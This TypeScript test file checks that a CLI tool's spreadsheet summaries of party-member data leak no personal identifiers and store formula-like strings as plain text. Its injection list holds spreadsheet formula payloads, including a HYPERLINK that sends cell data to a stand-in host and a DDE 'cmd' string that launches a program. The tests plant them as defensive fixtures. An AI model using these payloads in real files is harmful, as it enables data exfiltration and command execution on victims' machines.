/**
 * What a file sent on holds (issue #5): `dangvien report --out` on the bundled sample and on
 * fuzzed workbooks writes no member's name, id (Số lý lịch) or card number (Số thẻ) anywhere in
 * the file's XML; and every string it writes stays text: the only formulas in the file are the
 * layouts' own, a name such as `=HYPERLINK(…)`, `+1+1`, `-2+3` or `@SUM(…)` is a shared string,
 * and numbers are written as numbers.
 */
import fc from 'fast-check';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { main, type Io } from '../../src/cli/main';
import { analyze, exportLayouts } from '../../src/core/analyze';
import { a1, type CellValue, type SheetGrid } from '../../src/core/grid';
import { readXlsxStream } from '../../src/hosts/xlsx/read';
import { prepareReport } from '../../src/report';
import { gridsToBuffer } from '../../src/hosts/xlsx/write-grids';
import { generateSample } from '../../src/sample';
import { baseGrids, fuzzCase, MutableWorkbook, occurrences, personalValues } from '../fuzz/engine';
import { sharedStrings, sheetCells, sheetsByName, xlsxParts, xmlText } from './unzip';

const dir = mkdtempSync(join(tmpdir(), 'dangvien-export-'));
const ARGS = ['--year', '2017', '--today', '2026-11-25'];

async function report(name: string, grids: SheetGrid[]): Promise<{ code: number; out: string; input: string; err: string }> {
  const input = join(dir, `${name}.xlsx`);
  const out = join(dir, `${name}-TongHop.xlsx`);
  writeFileSync(input, await gridsToBuffer(grids));
  const err: string[] = [];
  const io: Io = { out: () => undefined, err: (s) => err.push(s) };
  const code = await main(['report', input, '--out', out, ...ARGS], io);
  return { code, out, input, err: err.join('\n') };
}

/** Every part's text, decoded, one after the other. */
function fileText(path: string): string {
  return [...xlsxParts(readFileSync(path)).entries()].map(([name, xml]) => `${name}\u0001${xmlText(xml)}`).join('\u0002');
}

describe('a summary file sent on holds no member’s name, id or card number', () => {
  it('for the bundled sample', async () => {
    const grids = generateSample();
    const r = await report('sample', grids);
    expect(r.code).toBe(0);
    const personal = personalValues(grids);
    expect(personal.length).toBeGreaterThan(8000); // ids, names and cards of some 3,200 members
    const text = fileText(r.out);
    expect(occurrences(personal, text)).toEqual([]);
    // The scan does find a member when one is there (a planted name in the file's text).
    expect(occurrences(personal, text + '\u0001' + personal[1])).toEqual([personal[1]]);
  }, 60_000);

  // Fuzzed workbooks: the mutations of test/fuzz (cells blanked or garbled, rows duplicated,
  // columns dropped or renamed…) over small generated workbooks; the CLI writes its file anyway.
  const cases = fc
    .sample(fuzzCase, { seed: 5, numRuns: 40 })
    .filter((c) => c.base.rows !== 0)
    .slice(0, 8);

  let written = 0;
  it.each(cases.map((c, i) => [i, c] as const))('for fuzzed workbook %i', async (i, c) => {
    const base = baseGrids(c.base);
    const wb = new MutableWorkbook(base);
    for (const m of c.mutations) wb.apply(m);
    let r;
    try {
      r = await report(`fuzzed-${i}`, wb.grids());
    } catch (e) {
      // ExcelJS refuses some sheet names a mutation made (`[`, `*`, over 31 characters): not a file to send.
      expect(String(e)).toMatch(/worksheet name|sheet name|Worksheet name/i);
      return;
    }
    if (r.code === 2) {
      // ExcelJS writes a character XML forbids (U+FFFE, which no real workbook holds) as it is:
      // the file it made cannot be read back, and the command line says so.
      expect(r.err).toMatch(/cannot read the file's content/);
      return;
    }
    expect([0, 1]).toContain(r.code);
    expect(existsSync(r.out)).toBe(true);
    expect(occurrences(personalValues(base), fileText(r.out))).toEqual([]);
    written++;
  }, 60_000);

  it('wrote most of the fuzzed files', () => {
    expect(written).toBeGreaterThanOrEqual(6);
  });
});

describe('every string written is text; the only formulas are the layouts’ own', () => {
  /** What OWASP lists for CSV injection, and what a cell must never turn into a formula. */
  const INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=2+2',
    "=cmd|' /C calc'!A0",
    '=1',
  ];

  function injected(): SheetGrid[] {
    const grids = generateSample();
    const units = grids.find((g) => g.name === 'ToChuc')!;
    const h = units.values.findIndex((r) => r.includes('Mã'));
    const [codeCol, nameCol, kindCol] = ['Mã', 'Tên tổ chức', 'Loại'].map((k) => units.values[h].indexOf(k));
    const tccs = units.values.map((r, i) => ({ r, i })).filter(({ r, i }) => i > h && /^(Đảng bộ cơ sở|Chi bộ cơ sở)$/.test(String(r[kindCol])));
    // TCCS names: on TH Kết nạp, TH Tổ chức and the pivot sheet.
    INJECTIONS.forEach((s, k) => (units.values[tccs[k].i] = Object.assign([...tccs[k].r], { [nameCol]: s })));
    // A grassroots cell's code, everywhere it is used: on the summary sheets as the TCCS code.
    const cell = tccs.find(({ r }) => r[kindCol] === 'Chi bộ cơ sở')!;
    const oldCode = cell.r[codeCol];
    const newCode = '=1+2';
    for (const g of grids) {
      g.values = g.values.map((row) => row.map((v) => (v === oldCode ? newCode : v)) as CellValue[]);
    }
    // An unknown column whose header is a formula: quoted in a Kiểm tra message.
    const members = grids.find((g) => g.name === 'DangVien')!;
    const mh = members.values.findIndex((r) => r.includes('Số lý lịch'));
    members.values[mh] = [...members.values[mh], '=EVIL()'];
    return grids;
  }

  it('writes names, codes and messages that look like formulas as shared strings', async () => {
    const grids = injected();
    const r = await report('injection', grids);
    expect([0, 1]).toContain(r.code);
    const parts = xlsxParts(readFileSync(r.out));
    const sst = sharedStrings(parts.get('xl/sharedStrings.xml'));
    const sheets = sheetsByName(parts);

    // The layouts the file was made from, as the command line makes them from the file it reads:
    // the summary sheets and the report sheet.
    const read = await readXlsxStream(r.input);
    const analysis = analyze(read, { year: 2017, today: '2026-11-25', layouts: false });
    const drafted = prepareReport(analysis, read, { lang: 'vi' });
    const layouts = [...exportLayouts(analysis), ...(drafted ? [drafted.layout] : [])];
    expect([...sheets.keys()]).toEqual(layouts.map((l) => l.name));

    let strings = 0;
    let numbers = 0;
    let risky = 0;
    for (const layout of layouts) {
      const cells = new Map(sheetCells(sheets.get(layout.name)!).map((c) => [c.ref, c]));
      // Formulas: exactly the layout's own, cell for cell.
      const want = new Map(layout.formulas.map((f) => [f.cell, f.formula.replace(/^=/, '')]));
      const got = new Map([...cells.values()].filter((c) => c.formula !== null).map((c) => [c.ref, c.formula!]));
      expect(got).toEqual(want);
      // Values: strings are shared strings, equal to the layout's; numbers are numbers.
      layout.rows.forEach((row, ri) =>
        row.forEach((v, ci) => {
          const ref = a1(ri, ci);
          if (v === null || want.has(ref)) return;
          const c = cells.get(ref)!;
          expect(c).toBeDefined();
          if (typeof v === 'string') {
            expect({ ref, type: c.type }).toEqual({ ref, type: 's' });
            expect(sst[Number(c.value)]).toBe(v);
            strings++;
            if (/^[=+\-@\t\r]/.test(v)) risky++;
          } else if (typeof v === 'number') {
            expect({ ref, type: c.type ?? 'n' }).toEqual({ ref, type: 'n' });
            expect(Number(c.value)).toBe(v);
            numbers++;
          }
        }),
      );
    }
    expect(strings).toBeGreaterThan(100);
    expect(numbers).toBeGreaterThan(100);
    // The planted names, code and header did reach the sheets, as text.
    expect(risky).toBeGreaterThanOrEqual(INJECTIONS.length);
    for (const s of ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', '+1+1', '-2+3', '@SUM(A1:A9)', '=1+2']) expect(sst).toContain(s);
    expect(sst.some((s) => s.includes('=EVIL()'))).toBe(true);
    // No link out of the file: no external relationship, no hyperlink part.
    for (const [name, xml] of parts) {
      if (name.endsWith('.rels')) expect(xml).not.toMatch(/TargetMode="External"/);
      expect(xml).not.toMatch(/<hyperlink\b/);
    }
  }, 60_000);
});
